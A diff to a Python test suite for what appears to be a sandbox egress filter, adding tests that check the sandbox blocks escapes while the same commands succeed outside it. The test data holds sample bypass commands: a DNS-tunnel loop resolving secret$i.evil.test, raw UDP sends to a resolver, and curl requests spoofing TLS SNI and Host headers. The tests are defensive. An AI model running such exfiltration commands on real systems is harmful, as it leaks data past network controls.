@@ -27,7 +27,9 @@ HOSTS = f"""127.0.0.1 localhost
 {PUBLIC6} six.test
 10.20.30.40 private.test
 169.254.169.254 metadata.test
+{PUBLIC} secret1.evil.test
 """
+RESOLVER = "1.1.1.1"  # for who asks it and not its own
 
 
 def enter_own_namespaces():
@@ -59,7 +61,8 @@ class Egress(PawlTest):
         super().setUp()
         for command in (["ip", "link", "set", "lo", "up"], ["ip", "addr", "replace", f"{PUBLIC}/32", "dev", "lo"],
                         ["ip", "-6", "addr", "replace", f"{PUBLIC6}/128", "dev", "lo"],
-                        ["ip", "addr", "replace", "10.20.30.40/32", "dev", "lo"]):
+                        ["ip", "addr", "replace", "10.20.30.40/32", "dev", "lo"],
+                        ["ip", "addr", "replace", f"{RESOLVER}/32", "dev", "lo"]):
             subprocess.run(command, check=True)
         self.write("hosts", HOSTS)
         subprocess.run(["mount", "--bind", self.root / "hosts", "/etc/hosts"], check=True)
@@ -149,7 +152,19 @@ class Egress(PawlTest):
         (self.root / name).mkdir(parents=True)
         return self.root / name
 
+    def echo_datagrams(self, address):
+        server = socketserver.ThreadingUDPServer(
+            address, type("Echo", (socketserver.BaseRequestHandler,), {
+                "handle": lambda self: self.request[1].sendto(self.request[0], self.client_address)}))
+        self.serve(server, None)
+
+    def outside(self, script):
+        """The same without a sandbox: whatever is refused inside must work here, or the refusal would prove nothing."""
+        return subprocess.run(["sh", "-c", script.replace("/ca ", f"{self.tls}/cert ")], capture_output=True, text=True, timeout=60)
+
     def test_nothing_else_gets_out(self):
+        for address in ((RESOLVER, 53), (PUBLIC, 443)):
+            self.echo_datagrams(address)
         for name, script in {
                 "another name": "curl -sS -m 5 --cacert /ca https://other.test/hello",
                 "another port": "curl -sS -m 5 http://good.test/hello",
@@ -158,7 +173,7 @@ class Egress(PawlTest):
                                                        "https://other.test/hello",
                 "IPv6": f"curl -sS -m 5 -g -k 'https://[{PUBLIC6}]/hello'",
                 "DNS of another server": "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
-                                         "s.settimeout(2); s.sendto(b'x' * 20, ('1.1.1.1', 53)); print(s.recv(9))\"",
+                                         f"s.settimeout(2); s.sendto(b'x' * 20, ('{RESOLVER}', 53)); print(s.recv(9))\"",
                 "a DNS tunnel": "for i in 1 2 3; do getent hosts secret$i.evil.test && exit 0; done; exit 1",
                 "UDP to an allowed name": "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                                           "s.settimeout(2); s.connect(('good.test', 443)); s.send(b'x'); s.recv(9)\"",
@@ -169,11 +184,16 @@ class Egress(PawlTest):
                 done = self.inside(script, "good.test:443")
                 self.assertNotEqual(done.returncode, 0, done.stdout)
                 self.assertNotIn("hello", done.stdout)
+                # The proxy is only inside: there it takes the name as soon as it is allowed.
+                further = self.inside(script, "other.test:443") if "proxy" in name else self.outside(script)
+                self.assertEqual(further.returncode, 0, further.stderr)
 
     def test_each_refusal_is_told(self):
-        done = self.inside("curl -sS -m 5 -k --connect-to other.test:443:good.test:443 https://other.test/; "
-                           "curl -sS -m 5 -H 'Host: other.test' http://good.test/hello; getent hosts evil.test; true",
-                           "good.test:443", "good.test:80")
+        script = ("curl -sS -m 5 -k --connect-to other.test:443:good.test:443 https://other.test/hello; "
+                  "curl -sS -m 5 -H 'Host: other.test' http://good.test/hello; getent hosts evil.test; true")
+        self.assertEqual(self.outside(script).stdout, "hello\nhello\n")
+        done = self.inside(script, "good.test:443", "good.test:80")
+        self.assertEqual(done.stdout, "")
         for words in ('the TLS hello names "other.test"', 'the Host header names "other.test"',
                       "evil.test:0: refused: this name is not allowed"):
             self.assertIn(words, done.stderr)
